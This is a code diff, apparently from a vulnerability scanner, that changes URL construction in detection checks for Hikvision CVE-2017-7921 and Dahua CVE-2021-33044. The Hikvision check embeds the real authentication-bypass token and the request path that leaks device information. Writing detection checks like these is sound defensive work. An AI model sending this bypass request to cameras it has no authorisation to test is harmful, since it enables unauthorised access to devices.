@@ -44,8 +44,8 @@ const HIKVISION_MAGIC = "YWRtaW46MTEK";
 const hikvisionBypass: Check = {
   id: "vuln.hikvision-cve-2017-7921",
   async run(ctx) {
-    const { http } = await ctx.ports();
-    const url = `http://${ctx.host}:${http}/System/deviceInfo?auth=${HIKVISION_MAGIC}`;
+    const page = new URL("/System/deviceInfo", await ctx.webRootUrl());
+    const url = `${page.href}?auth=${HIKVISION_MAGIC}`;
     try {
       const reply = await httpProbe(url, {
         timeoutMs: ctx.settings.probeTimeoutMs,
@@ -55,7 +55,7 @@ const hikvisionBypass: Check = {
       const body = reply.body.toString("utf8");
       const leaked = reply.status === 200 && /<firmwareVersion>[^<]+<\/firmwareVersion>/.test(body);
       const evidence = ctx.scrub.record("http:hikvision-bypass", {
-        sent: `GET http://${ctx.host}:${http}/System/deviceInfo?auth=<CVE-2017-7921 token>`,
+        sent: `GET ${page.href}?auth=<CVE-2017-7921 token>`,
         received: `${describeHead(`HTTP ${reply.status}`, { "content-type": reply.headers["content-type"] })}\n${leaked ? body : ""}`,
       });
       return outcome(leaked ? "fail" : "pass", [evidence]);
@@ -83,8 +83,7 @@ interface RpcReply {
 const dahuaBypass: Check = {
   id: "vuln.dahua-cve-2021-33044",
   async run(ctx) {
-    const { http } = await ctx.ports();
-    const base = `http://${ctx.host}:${http}`;
+    const base = (await ctx.webRootUrl()).origin;
     const evidence: Evidence[] = [];
     const call = async (
       path: string,
